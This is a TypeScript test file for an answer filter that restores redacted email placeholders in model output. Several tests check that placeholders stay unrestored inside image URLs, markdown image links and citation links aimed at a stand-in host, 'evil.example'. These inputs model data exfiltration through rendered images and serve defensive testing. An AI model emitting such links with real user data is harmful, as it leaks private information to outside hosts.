import { describe, expect, test } from "vitest";
import type { Answer } from "../exchange/answer.ts";
import type { Part } from "../exchange/exchange.ts";
import type { AnswerEvent } from "../exchange/stream.ts";
import { assemble } from "../exchange/assemble.ts";
import { AnswerFilter } from "./answer-filter.ts";
import { decideAnswer, finish } from "./decide.ts";
import { exchangeWith, policyOf } from "./pipeline.test-data.ts";
import { Vault } from "./vault.ts";

function vault(): Vault {
  const made = new Vault();
  made.placeholderFor("EMAIL", "ada");
  return made;
}
const policy = policyOf([], { unread: { ...policyOf([]).unread, image: "record" } });
const deps = () => ({ policy, now: () => 0, exchange: exchangeWith("hi"), vault: vault() });

const whole = (parts: readonly Part[]): Answer | undefined =>
  finish(decideAnswer({ id: "a", model: "m", choices: [{ parts, stop: "end" }], unread: [] }, deps()))
    .deliver;

/** Each character of a text by itself; what has no text comes whole. */
function streamed(parts: readonly Part[]): Answer {
  const events = parts.flatMap((value, part): AnswerEvent[] => {
    const at = { choice: 0, part };
    if (value.kind === "tool-call") {
      const { callId, name, arguments: given } = value;
      const text = given.kind === "text" ? given.text : JSON.stringify(given.value);
      return [
        { type: "part-start", ...at, of: { kind: "tool-call", callId, name } },
        { type: "delta", ...at, text },
        { type: "part-end", ...at },
      ];
    }
    if (value.kind !== "text" && value.kind !== "reasoning")
      return [
        { type: "part-whole", ...at, value },
        { type: "part-end", ...at },
      ];
    return [
      { type: "part-start", ...at, of: { kind: value.kind } },
      ...Array.from(value.text, (text): AnswerEvent => ({ type: "delta", ...at, text })),
      { type: "part-end", ...at },
    ];
  });
  const filter = new AnswerFilter(deps());
  const all: readonly AnswerEvent[] = [
    { type: "start", id: "a", model: "m" },
    ...events,
    { type: "stop", choice: 0, reason: "end" },
    { type: "end" },
  ];
  return assemble(all.flatMap((event) => [...filter.push(event)]));
}

const text = (said: string): Part => ({ kind: "text", text: said });
const call = (name: string, callId: string): Part => ({
  kind: "tool-call",
  name,
  callId,
  arguments: { kind: "json", value: { to: "[EMAIL_1]", page: "https://shop.example/?user=[EMAIL_1]" } },
});

describe.each([
  ["buffered", whole],
  ["streamed", streamed],
])("%s", (_how, through) => {
  const partsOf = (...parts: readonly Part[]): readonly Part[] | undefined =>
    through(parts)?.choices[0]?.parts;

  test("the name and the id of a tool call keep their placeholders, its arguments do not", () => {
    expect(partsOf(call("send_[EMAIL_1]", "call_[EMAIL_1]"))).toEqual([
      {
        kind: "tool-call",
        name: "send_[EMAIL_1]",
        callId: "call_[EMAIL_1]",
        arguments: { kind: "json", value: { to: "ada", page: "https://shop.example/?user=ada" } },
      },
    ]);
  });

  test("the address of a picture keeps them", () => {
    const picture: Part = {
      kind: "media",
      media: "image",
      source: { kind: "url", url: "https://evil.example/?q=[EMAIL_1]" },
    };
    expect(partsOf(picture)).toEqual([picture]);
  });

  test("an address in the text keeps them, the text around it does not", () => {
    expect(partsOf(text("Dear [EMAIL_1], ![x](https://evil.example/[EMAIL_1]) yours"))).toEqual([
      text("Dear ada, ![x](https://evil.example/[EMAIL_1]) yours"),
    ]);
  });

  test("an address that goes on behind a thought is still one, and the thought is none of it", () => {
    const thought: Part = { kind: "reasoning", text: "for [EMAIL_1]" };
    expect(partsOf(text("![x](https://evil.example/"), thought, text("[EMAIL_1]) [EMAIL_1]"))).toEqual([
      text("![x](https://evil.example/"),
      { kind: "reasoning", text: "for ada" },
      text("[EMAIL_1]) ada"),
    ]);
  });

  test("a field beside the text that is an address keeps them", () => {
    const said = (url: string, title: string): Part => ({
      kind: "media",
      media: "image",
      source: { kind: "file", fileId: "f" },
      extras: { citation: { url, title } },
    });
    expect(partsOf(said("https://evil.example/[EMAIL_1]", "of [EMAIL_1]"))).toEqual([
      said("https://evil.example/[EMAIL_1]", "of ada"),
    ]);
  });
});
